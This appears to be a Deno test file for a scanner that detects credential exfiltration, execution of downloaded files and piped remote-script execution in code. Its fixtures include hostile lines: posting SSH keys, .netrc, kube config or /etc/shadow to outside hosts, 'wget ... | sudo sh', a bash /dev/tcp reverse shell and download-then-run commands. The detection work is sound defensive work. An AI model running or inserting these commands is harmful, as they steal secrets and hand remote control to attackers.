import assert from "node:assert/strict";
import { FETCH_TO_FILE, KEYS_IN_CODE, runsRemoteCode, startsWhatItFetched, stealsKeys } from "./code.ts";

function steals(text: string): boolean {
  const match = new RegExp(KEYS_IN_CODE, "i").exec(text);
  return match !== null && stealsKeys(text, { start: match.index, end: match.index + match[0].length });
}

function starts(text: string): boolean {
  return [...text.matchAll(new RegExp(FETCH_TO_FILE.source, "g"))].some((match) => startsWhatItFetched(match, text));
}

Deno.test("a file of keys that is read beside something that sends is taken, in any language", () => {
  for (
    const text of [
      'requests.post("https://x.example.net", data=open(home + "/.ssh/id_rsa").read())',
      'Net::HTTP.post(URI("http://203.0.113.7/n"), File.read(File.join(Dir.home, ".netrc")))',
      'b, _ := os.ReadFile(filepath.Join(home, ".kube", "config"))\nhttp.Post(u, "text/plain", bytes.NewReader(b))',
      "curl_setopt($c, CURLOPT_POSTFIELDS, file_get_contents('/etc/shadow'));",
    ]
  ) assert.ok(steals(text), text);
});

Deno.test("a key to log in with, a token for its own service and what stays in the house are not taken", () => {
  for (
    const text of [
      'conn.connect({ privateKey: fs.readFileSync(home + "/.ssh/id_rsa") });\nfetch(u, { method: "POST" });',
      'load_kube_config(expanduser("~/.kube/config"))\nopen("a")\nrequests.post(u)',
      'token = open(".vault-token").read()\nrequests.post(u, headers={"Authorization": token})',
      'open(".ssh/id_rsa.pub")\nrequests.post("http://localhost:8080/k")',
      'open("/home/ada/.ssh/config")',
    ]
  ) assert.ok(!steals(text), text);
});

Deno.test("what was fetched counts where the same file is started, unless its maker keeps it there", () => {
  assert.ok(starts('urlretrieve("http://203.0.113.9/a", p)\nos.chmod(p, 0o755)'));
  assert.ok(starts('iwr https://x.example.net/a.exe -OutFile $t; Start-Process "$t"'.replaceAll('"', "")));
  assert.ok(!starts('urlretrieve("https://github.com/acme/t/releases/download/v1/t", "t")\nrun(["./t"])'));
  assert.ok(
    !starts('open("a.json", "w").write(requests.get("https://x.example.net").text)\nrun(["git", "add", "a.json"])'),
  );
});

Deno.test("fetching and running in one breath is told from a look-up and from an official installer", () => {
  assert.ok(runsRemoteCode("wget -qO- http://203.0.113.4/k | sudo sh"));
  assert.ok(runsRemoteCode("bash -i >& /dev/tcp/198.51.100.4/9001 0>&1"));
  assert.ok(runsRemoteCode("source <(curl -s https://rc.example.org/t)"));
  assert.ok(!runsRemoteCode("curl -s https://api.example.com/v | jq .version"));
  assert.ok(!runsRemoteCode("curl -sSf https://sh.rustup.rs | sh"));
});
